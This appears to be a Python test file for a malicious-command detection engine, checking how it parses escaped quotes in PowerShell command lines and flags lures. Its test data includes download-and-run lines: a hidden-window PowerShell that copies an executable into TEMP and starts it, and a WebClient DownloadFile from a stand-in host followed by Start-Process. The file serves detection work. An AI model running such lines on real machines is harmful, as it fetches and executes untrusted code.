"""`powershell -c "$p=\\"$env:TEMP\\x.exe\\"; Start-Process $p"`: a Windows command line.

Windows splits it (CommandLineToArgvW): a backslash before a double quote makes the quote part
of the word, and powershell.exe runs the words joined. The interpreter reads the code after -c
from the text as written (pscommands._argv_joined); the grammar reads the whole line as
PowerShell, where each such quote ends or opens a string, and its error recovery cost 200-350 us
a line. grammar.parse gives it the backslash of each such quote, in the rest of the line after
-c only, as a backtick (PowerShell's escape of a quote in a string). These tests pin what is
screened and what is not, and that the reading of the code is what it was.
"""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from app.detection import Engine, Level
from app.detection.interpret.budget import Budget
from app.detection.interpret.facts import Facts
from app.detection.interpret.grammar import (
    argv_quotes,
    parse,
    quoted_programs,
    screen_argv_quotes,
)
from app.detection.interpret.powershell import interpret_powershell

TEMP = "C:\\Users\\user\\AppData\\Local\\Temp"
LINE = 'powershell -w h -c "$p=\\"$env:TEMP\\x.exe\\"; Copy-Item \\\\files.example.test\\s\\x.exe $p; Start-Process $p"'


def read(text: str) -> Facts:
    facts = Facts()
    interpret_powershell(text, facts, Budget(ms=1000, strict=True))
    return facts


def test_the_backslash_before_each_quote_after_dash_c_is_screened() -> None:
    data = LINE.encode()
    found = argv_quotes(data)
    assert [data[i : i + 2] for i in found] == [b'\\"', b'\\"']
    assert all(i > data.index(b"-c ") for i in found)
    screened = screen_argv_quotes(data, found)
    assert len(screened) == len(data)
    assert [i for i, (a, b) in enumerate(zip(data, screened, strict=True)) if a != b] == found
    assert b'"$p=`"$env:TEMP\\x.exe`";' in screened


def test_the_screened_line_parses_cleanly_over_the_original_text() -> None:
    parsed = parse("powershell", LINE, ms=1000)
    assert parsed is not None
    tree, data = parsed
    assert data == LINE.encode() and not tree.root_node.has_error


def test_the_code_after_dash_c_is_read_as_powershell_exe_runs_it() -> None:
    facts = read(LINE)
    assert (
        '$p="$env:TEMP\\x.exe"; Copy-Item \\\\files.example.test\\s\\x.exe $p; Start-Process $p'
        in facts.layers
    )
    names = [i.name for i in facts.invocations]
    assert names == ["powershell", "copy-item", "start-process"]  # no misread outer commands
    start = next(i for i in facts.invocations if i.name == "start-process")
    assert start.args == (f"{TEMP}\\x.exe",)


def test_the_lure_is_still_caught_whole() -> None:
    verdict = Engine(strict=True).analyze(LINE)
    assert verdict.level is Level.MALICIOUS
    assert "PG-WIN-START-FROM-TEMP" in {f.rule_id for f in verdict.findings}


def test_nothing_is_screened_where_windows_does_not_split_the_line() -> None:
    # no -c: a PowerShell script's own "C:\dir\" is a string that ends there
    assert argv_quotes(b'Set-Location "C:\\tools\\"; iwr https://x.example.test/a') == []
    # a quote after -Command's line ends, and one before it, are the script's own
    assert argv_quotes(b'$d="C:\\a\\"; powershell -c "x"\nWrite-Host "b\\"') == []
    # -ep is no -Command
    assert argv_quotes(b'powershell -ep bypass "\\"x\\""') == []
    # an even run of backslashes before the quote ends the word: the quote is the grammar's too
    assert argv_quotes(b'powershell -c "dir C:\\\\" ; echo 1') == []


def test_every_spelling_of_command_and_of_the_program_is_screened() -> None:
    for line in (
        b'pwsh -Command "echo \\"a\\""',
        b'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -com "echo \\"a\\""',
        b'cmd /c powershell.exe -w 1 /c "echo \\"a\\""',
    ):
        assert len(argv_quotes(line)) == 2, line


QUOTED = "\"PowerShell.exe\" -w h -nop -c \"(New-Object Net.WebClient).DownloadFile('https://a.example.test/x','x.exe'); Start-Process x.exe\""


def test_a_quoted_powershell_at_a_lines_start_is_read_as_the_command_it_starts() -> None:
    data = QUOTED.encode()
    assert quoted_programs(data) == [0, 15]
    screened = screen_argv_quotes(data, [], quoted_programs(data))
    assert screened.startswith(b" PowerShell.exe  -w h") and len(screened) == len(data)
    parsed = parse("powershell", QUOTED, ms=1000)
    assert parsed is not None and not parsed[0].root_node.has_error and parsed[1] == data
    facts = read(QUOTED)
    # the program with its arguments, then the code after -c, read as its own (the grammar's
    # error recovery read the code's statements as the line's own, with a quote in an argument)
    assert [(i.name, i.args[-1]) for i in facts.invocations] == [
        ("powershell", facts.layers[0]),
        ("new-object", "Net.WebClient"),
        ("start-process", "x.exe"),
    ]
    assert "DownloadFile" in facts.layers[0]
    # the reading is the unquoted line's
    assert read(QUOTED.replace('"PowerShell.exe"', "PowerShell.exe", 1)).layers == facts.layers


def test_a_quoted_program_is_screened_only_where_a_line_starts_it() -> None:
    assert (
        quoted_programs(b'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\pwsh.exe" -c "x"') != []
    )
    assert quoted_programs(b' "pwsh" -c x\n"powershell.exe"\t-c y') == [1, 6, 13, 28]
    # a path with a blank would read as another program once unquoted: left as written
    assert quoted_programs(b'"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -c "x"') == []
    assert quoted_programs(b'echo "powershell" -c x') == []  # an argument, not the program
    assert quoted_programs(b'"powershell.exe"') == []  # nothing after it
    assert quoted_programs(b'"notpowershell.exe" -c x') == []


HOSTILE = [
    "powershell ", "-c ", '"', '\\"', "\\\\", "\\", " ", "\n", "$p", "`", "'", "x", "-com ",
    '"powershell" ', '"pwsh.exe" ',
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(text=st.lists(st.sampled_from(HOSTILE), max_size=30).map("".join))
def test_screening_changes_only_backslashes_before_quotes_and_never_raises(text: str) -> None:
    data = text.encode()
    found = argv_quotes(data)
    assert all(data[i : i + 2] == b'\\"' for i in found)
    programs = quoted_programs(data)
    assert all(data[at : at + 1] == b'"' for at in programs)
    assert len(screen_argv_quotes(data, found, programs)) == len(data)
    parsed = parse("powershell", text, ms=1000)
    assert parsed is not None and parsed[1] == data
    reading = interpret_powershell(text, Facts(), Budget(ms=10_000, strict=True))
    assert reading is None or isinstance(reading, str)
